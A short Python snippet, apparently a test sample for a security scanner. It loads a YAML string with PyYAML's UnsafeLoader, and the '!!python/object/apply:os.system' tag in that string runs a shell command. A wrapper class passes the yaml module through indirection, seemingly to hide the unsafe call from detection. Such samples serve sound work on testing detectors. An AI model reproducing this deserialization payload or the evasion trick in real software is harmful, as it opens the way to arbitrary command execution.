class my_Box:

    def __init__(self, v):
        self.v = v

    def __call__(self):
        return self.v
import yaml
my_Box(yaml)().load("!!python/object/apply:os.system ['id>pf']", Loader=my_Box(yaml)().UnsafeLoader)
